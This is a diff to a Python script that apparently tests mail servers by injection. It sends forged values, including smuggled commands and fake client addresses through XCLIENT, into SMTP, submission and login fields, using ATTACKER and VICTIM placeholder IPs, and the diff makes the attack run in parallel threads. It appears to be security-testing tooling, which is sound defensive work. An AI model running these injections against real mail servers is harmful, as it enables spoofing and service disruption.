@@ -4,6 +4,7 @@ DNS name, sender, recipient, user name, commands that are none."""
 import base64
 import socket
 import sys
+from concurrent.futures import ThreadPoolExecutor
 
 ATTACKER, VICTIM = "192.0.2.66", "203.0.113.5"
 smtp, submission, imap, pop3 = map(int, sys.argv[1:5])
@@ -60,11 +61,11 @@ def b64(text):
     return base64.b64encode(text.encode("utf-8", "surrogateescape")).decode()
 
 
-def one(port, fake):
+def one(port, fake, steps=range(7)):
     """Every SMTP field, each on a connection of its own."""
     oneline = fake.replace("\n", " ").replace("\r", " ")
     xtext = "".join(c if c.isalnum() else "+%02X" % (ord(c) & 255) for c in oneline)[:200]
-    for step in range(7):
+    for step in steps:
         c = Line(port)
         if step == 0:
             c.say(f"XCLIENT ADDR={ATTACKER} NAME={xtext}")
@@ -110,7 +111,11 @@ def login(fake):
     c.close()
 
 
-for fake in FAKES:
+def attack(fake):
     one(smtp, fake)
-    one(submission, fake)
+    one(submission, fake, [5])
     login(fake)
+
+
+with ThreadPoolExecutor(6) as pool:
+    list(pool.map(attack, FAKES))
